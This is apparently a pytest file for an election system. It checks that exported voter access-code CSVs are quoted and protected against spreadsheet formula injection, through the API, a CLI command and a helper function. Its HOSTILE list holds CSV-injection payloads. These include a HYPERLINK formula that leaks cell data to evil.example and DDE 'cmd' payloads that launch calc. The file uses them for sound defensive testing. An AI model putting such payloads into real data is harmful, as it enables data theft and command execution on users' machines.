"""The access-code CSV is quoted and formula-safe (from the API and ``veche election
codes``): a voter id on the roll that a spreadsheet would run as a formula comes out
with a ``'`` in front, and the codes still work."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from litestar import Litestar

from ballot.core.client import VoterClient
from ballot.services.roll import access_codes_csv, formula_safe
from kernel.settings import Settings
from tests.support.accounts import Client
from tests.support.elections import config
from veche.cli import main

# What an attacker who can put a name on the roll would like a clerk's spreadsheet to run.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'plain, "quoted" and, commas',
    "V-7",
]


def roll_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["voter_id"])
    writer.writerows([ref] for ref in HOSTILE)
    return out.getvalue()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def check(rows: list[list[str]]) -> dict[str, str]:
    """Every cell is safe, each hostile id is there (behind a ``'`` exactly when a
    spreadsheet would run it); voter id → code."""
    assert rows[0] == ["voter_id", "access_code"]
    codes = {}
    for ref, code in rows[1:]:
        for cell in (ref, code):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        original = ref[1:] if ref.startswith("'") else ref
        assert ref.startswith("'") == original.startswith(("=", "+", "-", "@"))
        codes[original] = code
    assert sorted(codes) == sorted(HOSTILE)
    return codes


def test_the_api_csv_is_quoted_and_formula_safe_and_its_codes_work(
    client: Client, app: Litestar, admin: dict[str, str]
) -> None:
    cfg = config("csv-2027", eligibility={"residents": False, "roll": True, "access_codes": True})
    assert client.post("/api/v1/elections", json=cfg, headers=admin).status_code == 201
    headers = {**admin, "content-type": "text/csv"}
    added = client.post("/api/v1/elections/csv-2027/roll", content=roll_csv(), headers=headers)
    assert added.status_code == 201, added.text
    made = client.post("/api/v1/elections/csv-2027/access-codes", headers=admin)
    assert made.status_code == 201
    assert made.headers["content-type"].startswith("text/csv")
    codes = check(read(made.text))
    # The raw text has the hostile formula only behind its apostrophe, inside quotes.
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in made.text
    assert client.post("/api/v1/elections/csv-2027/open", headers=admin).status_code == 200
    client.cookies.clear()
    voter = VoterClient(client)
    info = voter.election("csv-2027", allow_test_keys=True)
    wallet = voter.obtain_credential(info, access_code=codes[HOSTILE[0]])
    assert wallet.token is not None


def test_the_command_writes_the_same_safe_csv(
    settings: Settings,
    app: Litestar,
    client: Client,
    admin: dict[str, str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if settings.database_url:
        monkeypatch.setenv("VECHE_DATABASE_URL", settings.database_url)
    cfg = config("csv-cli", eligibility={"residents": False, "roll": True, "access_codes": True})
    assert client.post("/api/v1/elections", json=cfg, headers=admin).status_code == 201
    roll = tmp_path / "roll.csv"
    roll.write_text(roll_csv(), encoding="utf-8")
    data = ("--data-dir", str(settings.data_dir))
    assert main(["election", "roll", "csv-cli", str(roll), *data]) == 0
    out = tmp_path / "codes.csv"
    assert main(["election", "codes", "csv-cli", "--out", str(out), *data]) == 0, (
        capsys.readouterr().err
    )
    check(read(out.read_text(encoding="utf-8")))


def test_every_formula_start_is_neutralized() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert formula_safe(f"{start}1") == f"'{start}1"
    assert formula_safe("A-1") == "A-1"
    assert formula_safe("") == ""
    text = access_codes_csv([("\tTAB", "C1"), ("\rCR", "C2"), ("a\nb", "C3")])
    assert read(text) == [["voter_id", "access_code"], ["'\tTAB", "C1"], ["'\rCR", "C2"],
                          ["a\nb", "C3"]]  # fmt: skip
